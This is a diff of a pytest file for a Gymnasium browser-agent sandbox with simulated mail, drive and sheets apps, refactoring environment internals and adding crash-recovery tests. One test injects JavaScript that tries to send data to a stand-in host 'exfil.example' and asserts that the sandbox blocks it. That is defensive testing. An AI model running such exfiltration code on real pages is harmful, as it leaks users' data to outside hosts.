@@ -14,7 +14,7 @@ from gymnasium.utils.env_checker import check_env
 import harness
 from harness.agents import make
 from harness.tasks.schema import ANSWER_SENTENCE
-from harness.env import DeskEnv, ResetNeeded
+from harness.env import DeskEnv, ResetNeeded, make_env
 from harness.runs.episode import run_episode
 from harness.tasks.registry import load_task
 
@@ -40,6 +40,33 @@ def test_registered_env_passes_check_env():
     env.close()                                   # idempotent
 
 
+def test_the_wrapped_env_passes_check_env_and_repeats_its_last_observation_when_broken():
+    """The wrappers (tools, set-of-marks) pass Gymnasium's checker; with every dict wrapper the keys
+    come in their one order, and a step that breaks the environment gives the last observation
+    again, wrappers' keys included. (``axtree=True`` is left out of ``check_env``: Playwright numbers
+    the snapshot's refs per page, ``e1`` on a new page and ``f1e1`` after it navigated, so two
+    resets with one seed differ there — as they did when it was a ``DeskEnv`` flag.)"""
+    env = gym.make(harness.ENV_ID, task=TASK, tools=True, som=True)
+    try:
+        check_env(env)
+    finally:
+        env.close()
+    env = make_env(TASK, tools=True, axtree=True, som=True)
+    try:
+        obs, info = env.reset(seed=0)
+        assert list(obs) == ["screenshot", "url", "goal", "last_action_error", "tool_result", "axtree", "som"]
+        assert obs in env.observation_space and info == {"step": 0, "task": TASK, "status": "ok"}
+        session = env.unwrapped.session
+        session.call(lambda: session.browser.close())                 # the browser dies mid-episode
+        again, r, term, trunc, info = env.step({"type": "click", "x": 90, "y": 192})
+        assert info["status"] == "error" and trunc and list(again) == list(obs)
+        assert again["axtree"] == obs["axtree"] and again["som"]["elements"] == obs["som"]["elements"]
+        assert np.array_equal(again["som"]["image"], obs["som"]["image"]) and again["tool_result"] == ""
+        assert np.array_equal(again["screenshot"], obs["screenshot"]) and again in env.observation_space
+    finally:
+        env.close()
+
+
 def test_observation_action_reward_and_episode_end(env):
     with pytest.raises(ResetNeeded):
         DeskEnv(TASK).step({"type": "wait", "ms": 0})
@@ -60,13 +87,13 @@ def test_observation_action_reward_and_episode_end(env):
 
 def test_truncation_runs_the_verifier(env):
     env.reset(options={"task": load_task(TASK)})
-    env._max_steps_override = 2
+    env.max_steps = 2
     try:
         env.step({"type": "wait", "ms": 0})
         obs, r, term, trunc, info = env.step({"type": "wait", "ms": 0})
         assert trunc and not term and info["result"]["status"] == "failed"
     finally:
-        env._max_steps_override = None
+        env.max_steps = None
 
 
 def test_same_state_same_pixels(env):
@@ -85,29 +112,29 @@ def test_reset_leaves_nothing_behind(env):
     u = env.unwrapped
     env.reset(options={"task": load_task("meridian/send-survey-to-pryce")})
     # Marks everywhere: storage, an extra cookie, history, a saved draft, and a pending autosave.
-    u.page_call(lambda p: p.evaluate("() => { localStorage.setItem('mark', '1'); sessionStorage.setItem('mark', '1'); }"))
-    u.page_call(lambda p: p.context.add_cookies([{"name": "mark", "value": "1", "url": p.url}]))
+    u.session.page_call(lambda p: p.evaluate("() => { localStorage.setItem('mark', '1'); sessionStorage.setItem('mark', '1'); }"))
+    u.session.page_call(lambda p: p.context.add_cookies([{"name": "mark", "value": "1", "url": p.url}]))
     env.step({"type": "navigate", "url": "/drive/my-drive"})
     env.step({"type": "navigate", "url": "/mail/inbox"})
-    box = u.page_call(lambda p: p.get_by_role("button", name="Compose").bounding_box())
+    box = u.session.page_call(lambda p: p.get_by_role("button", name="Compose").bounding_box())
     env.step({"type": "click", "x": int(box["x"] + 20), "y": int(box["y"] + 20)})
     env.step({"type": "type", "text": "draft that must not survive"})
-    body = u.page_call(lambda p: p.get_by_label("Message Body").bounding_box())
+    body = u.session.page_call(lambda p: p.get_by_label("Message Body").bounding_box())
     env.step({"type": "click", "x": int(body["x"] + 50), "y": int(body["y"] + 20)})
-    u.page_call(lambda p: p.keyboard.type("pending autosave"))          # typed, autosave not yet fired
-    with u._runner.current.slot.store() as st:
+    u.session.page_call(lambda p: p.keyboard.type("pending autosave"))          # typed, autosave not yet fired
+    with u.session.store() as st:
         assert st.scalar("SELECT count(*) FROM mail_drafts WHERE owner='alex.chen'") >= 1
     obs, _ = env.reset(options={"task": load_task("meridian/send-survey-to-pryce")})
-    state = u.page_call(lambda p: p.evaluate(
+    state = u.session.page_call(lambda p: p.evaluate(
         "() => [localStorage.length, sessionStorage.length, history.length, document.cookie]"))
     assert state[:3] == [0, 0, 1], state
-    cookies = u.page_call(lambda p: p.context.cookies())
+    cookies = u.session.page_call(lambda p: p.context.cookies())
     assert [c["name"] for c in cookies] == ["deskworld_session"]
-    u.page_call(lambda p: p.wait_for_timeout(1500))                    # any late autosave would land now
-    with u._runner.current.slot.store() as st:
+    u.session.page_call(lambda p: p.wait_for_timeout(1500))                    # any late autosave would land now
+    with u.session.store() as st:
         assert st.scalar("SELECT count(*) FROM mail_drafts WHERE owner='alex.chen'") == 0
         from apps.core.store.export import export
-        assert export(st) == u._runner.current.initial
+        assert export(st) == u.session.desk().initial
     assert obs["url"] == "http://desk.local/mail/inbox"
 
 
@@ -119,10 +146,10 @@ def test_off_origin_is_blocked_and_reported(env):
         assert "not allowed" in obs["last_action_error"], url
         assert obs["url"].startswith("http://desk.local/")
     # The page itself trying to leave (or to send data out) is stopped too.
-    env.unwrapped.page_call(lambda p: p.evaluate("() => { location.href = 'http://exfil.example/?d=secret'; }"))
+    env.unwrapped.session.page_call(lambda p: p.evaluate("() => { location.href = 'http://exfil.example/?d=secret'; }"))
     obs, *_ = env.step({"type": "wait", "ms": 0})
     assert "blocked" in obs["last_action_error"] and obs["url"].startswith("http://desk.local/")
-    env.unwrapped.page_call(lambda p: p.evaluate("() => { fetch('http://exfil.example/x').catch(() => 0); }"))
+    env.unwrapped.session.page_call(lambda p: p.evaluate("() => { fetch('http://exfil.example/x').catch(() => 0); }"))
     obs, *_ = env.step({"type": "wait", "ms": 100})
     assert "blocked" in obs["last_action_error"]
     obs, *_ = env.step({"type": "navigate", "url": "http://desk.local/mail/inbox"})
@@ -130,7 +157,7 @@ def test_off_origin_is_blocked_and_reported(env):
 
 
 def test_optional_axtree_and_set_of_marks():
-    with DeskEnv(TASK, axtree=True, som=True) as e:
+    with make_env(TASK, axtree=True, som=True) as e:
         obs, _ = e.reset()
         assert obs in e.observation_space
         assert 'link "Shared with me"' in obs["axtree"]
@@ -159,7 +186,7 @@ def test_a_killed_browser_ends_the_episode_as_error_and_the_env_recovers():
     e = DeskEnv(TASK)
     try:
         e.reset()
-        e._worker.call(lambda: e._worker.browser.close())             # the browser dies mid-episode
+        e.session.call(lambda: e.session.browser.close())             # the browser dies mid-episode
         obs, r, term, trunc, info = e.step({"type": "click", "x": 90, "y": 192})
         assert info["status"] == "error" and trunc and r == 0.0
         assert info["result"]["status"] == "error"
@@ -184,9 +211,9 @@ def test_random_agent_300_steps_causes_no_errors():
                 break
         assert steps == 300 and statuses == {"ok"}, (steps, statuses, info.get("error"))
         assert info["result"]["status"] in ("passed", "failed")
-        server = e._runner.current.server.url
+        server = e.session.desk().server.url
         for path in ("/mail/inbox", "/drive/my-drive"):
-            assert e.page_call(lambda p: p.goto(server + path).status) == 200
+            assert e.session.page_call(lambda p: p.goto(server + path).status) == 200
     assert json.dumps(info["result"])
 
 
@@ -198,10 +225,10 @@ def test_a_sheet_edit_is_one_action_and_one_settled_screenshot(store):
         u = e.unwrapped
         book = store.scalar("SELECT ref FROM drive_items WHERE name='Damages Model – Aurelia Dawn'")
         e.step({"type": "navigate", "url": f"/sheets/s/{book}"})
-        box = u.page_call(lambda p: p.get_by_role("gridcell", name="$6,840,000.00").bounding_box())
+        box = u.session.page_call(lambda p: p.get_by_role("gridcell", name="$6,840,000.00").bounding_box())
         e.step({"type": "click", "x": int(box["x"] + box["width"] / 2), "y": int(box["y"] + box["height"] / 2)})
         obs, *_ = e.step({"type": "type", "text": "6480000\n"})
-        shown = u.page_call(lambda p: p.evaluate(
+        shown = u.session.page_call(lambda p: p.evaluate(
             "() => Array.from(document.querySelectorAll('#grid td')).map(t => t.textContent)"))
         assert "$122,755,000.00" in shown and "$123,115,000.00" not in shown
         assert obs["screenshot"].shape == (800, 1280, 3)
